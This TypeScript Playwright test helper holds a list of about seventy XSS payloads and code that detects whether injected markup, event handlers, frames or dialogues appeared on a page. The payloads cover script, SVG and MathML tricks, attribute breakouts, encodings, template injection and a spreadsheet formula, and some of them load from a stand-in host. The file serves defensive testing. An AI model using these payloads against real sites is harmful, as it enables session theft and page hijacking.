import type { Page } from 'playwright-core';

/**
 * Texts that become elements, handlers or scripts where a page takes text for markup. Whatever they would put into the
 * page bears an id, a class or a name with `xss` in it, so that it is found.
 */
export const vectors: readonly string[] = [
  // elements that load, and their handlers
  '<img id=xss src=x onerror=alert(1)>',
  '<IMG ID="xss" SRC="x" ONERROR="alert(1)">',
  '<img/id=xss/src=x/onerror=alert(1)>',
  '<img id=xss src=x:x onerror\n=alert(1)>',
  '<img id=xss srcset="x 2x" onerror=alert(1)>',
  '<image id=xss src=x onerror=alert(1)>',
  '<video id=xss><source onerror=alert(1)></video>',
  '<audio id=xss src=x onerror=alert(1)>',
  '<input id=xss type=image src=x onerror=alert(1)>',
  '<link id=xss rel=stylesheet href=//xss.example>',
  '<style id=xss>*{background:url(//xss.example)}</style>',
  '<style id=xss onload=alert(1)></style>',
  // scripts
  '<script id=xss>alert(1)</script>',
  '<script id=xss src=//xss.example></script>',
  '<script id=xss type=module>import "//xss.example"</script>',
  '<scr<script id=xss>ipt>alert(1)</scr</script>ipt>',
  '</script><script id=xss>alert(1)</script>',
  '</title><script id=xss>alert(1)</script>',
  '</textarea><script id=xss>alert(1)</script>',
  '</style><script id=xss>alert(1)</script>',
  '</noscript><script id=xss>alert(1)</script>',
  '</template><script id=xss>alert(1)</script>',
  '--><script id=xss>alert(1)</script>',
  ']]><script id=xss>alert(1)</script>',
  '<!--<img id=xss src="--><img id=xss src=x onerror=alert(1)//">',
  // SVG and MathML
  '<svg id=xss onload=alert(1)>',
  '<svg><g id=xss onload=alert(1)></g></svg>',
  '<svg><script id=xss>alert(1)</script></svg>',
  '<svg><animate id=xss onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set id=xss attributeName=href to=javascript:alert(1)>',
  '<svg><a id=xss xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><use id=xss href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  '<svg><title><img id=xss src=x onerror=alert(1)></title></svg>',
  '<svg><foreignObject><img id=xss src=x onerror=alert(1)></foreignObject></svg>',
  '</svg><img id=xss src=x onerror=alert(1)>',
  '</title></svg><img id=xss src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><img id=xss src=x onerror=alert(1)>',
  '<math><a id=xss xlink:href=javascript:alert(1)>x</a></math>',
  '<svg></p><style><a id="</style><img id=xss src=1 onerror=alert(1)>">',
  // frames, objects, forms, addresses
  '<iframe id=xss srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe id=xss src=javascript:alert(1)></iframe>',
  '<object id=xss data=javascript:alert(1)></object>',
  '<embed id=xss src=//xss.example>',
  '<base id=xss href=//xss.example>',
  '<meta id=xss http-equiv=refresh content="0;url=//xss.example">',
  '<form id=xss action=javascript:alert(1)><input type=submit></form>',
  '<button id=xss formaction=javascript:alert(1)>x</button>',
  '<a id=xss href=javascript:alert(1)>x</a>',
  '<a id=xss href="java\tscript:alert(1)">x</a>',
  '<a id=xss href="data:text/html,<script>alert(1)</script>">x</a>',
  // handlers that fire by themselves or at the slightest touch
  '<details id=xss open ontoggle=alert(1)>',
  '<input id=xss autofocus onfocus=alert(1)>',
  '<select id=xss autofocus onfocus=alert(1)></select>',
  '<body id=xss onload=alert(1)>',
  '<marquee id=xss onstart=alert(1)>x</marquee>',
  '<div id=xss onpointerenter=alert(1) style=position:fixed;inset:0>x</div>',
  '<x id=xss onanimationstart=alert(1) style=animation:x>x</x>',
  '<table id=xss background=javascript:alert(1)><tr><td>x</td></tr></table>',
  // out of an attribute
  '" id="xss" onfocus="alert(1)" autofocus="',
  "' id='xss' onmouseover='alert(1)",
  '"><img id=xss src=x onerror=alert(1)>',
  "'><img id=xss src=x onerror=alert(1)>",
  '` id=xss onmouseover=alert(1)',
  // other tongues
  '&lt;img id=xss src=x onerror=alert(1)&gt;',
  '&#60;img id=xss src=x onerror=alert(1)&#62;',
  '\\u003cimg id=xss src=x onerror=alert(1)\\u003e',
  '＜img id=xss src=x onerror=alert(1)＞',
  '%3Cimg id=xss src=x onerror=alert(1)%3E',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  'javascript:alert(1)',
  'red;background:url(//xss.example)',
  'url(#x) xss',
  '=HYPERLINK("//xss.example","x")',
];

/** The vectors that stand on one line and hold no tab, for fields and files that part text there. */
export const plainVectors = vectors.filter((vector) => !/[\n\t]/.test(vector));

/**
 * Begins to watch a page; call it once the page is as it was built. What it gives tells, whenever it is asked, what has
 * come of text so far: elements, handlers, frames, scripts, dialogues. Nothing of the kind must.
 */
export async function watchMarkup(page: Page): Promise<() => Promise<string[]>> {
  const dialogues: string[] = [];
  page.on('dialog', (dialog) => {
    dialogues.push(`dialogue: ${dialog.message()}`);
    void dialog.dismiss();
  });
  const before = await countActive(page);
  return async () => {
    const now = await countActive(page);
    const more = Object.keys(now).filter((kind) => now[kind] !== before[kind]);
    return [...(await strangers(page)), ...more.map((kind) => `more or fewer: ${kind}`), ...dialogues];
  };
}

/** Elements that no page of ours has: what bears the mark of a vector, a handler in an attribute, an address that runs. */
function strangers(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const isHandler = ({ name }: Attr): boolean => name.startsWith('on');
    const runs = ({ name, value }: Attr): boolean =>
      /^(xlink:)?(href|src|action|formaction|data)$/.test(name) && /^\s*(javascript|data:text)/i.test(value);
    const all = (root: ParentNode): Element[] =>
      [...root.querySelectorAll('*')].flatMap((each) => [
        each,
        ...(each.shadowRoot ? all(each.shadowRoot) : []),
      ]);
    const found = all(document).filter(
      (element) =>
        element.matches('[id*="xss"], [class*="xss"], [name="xss"]') ||
        [...element.attributes].some((attribute) => isHandler(attribute) || runs(attribute)),
    );
    return found.map((element) => element.outerHTML.slice(0, 200));
  });
}

/** How many elements there are of the kinds that load or do something. */
function countActive(page: Page): Promise<Record<string, number>> {
  return page.evaluate(() => {
    const kinds = ['script', 'iframe', 'object', 'embed', 'base', 'meta', 'form', 'img', 'video', 'audio'];
    const count = (kind: string): number => document.querySelectorAll(`${kind}:not([src^="blob:"])`).length;
    return Object.fromEntries(kinds.map((kind) => [kind, count(kind)]));
  });
}
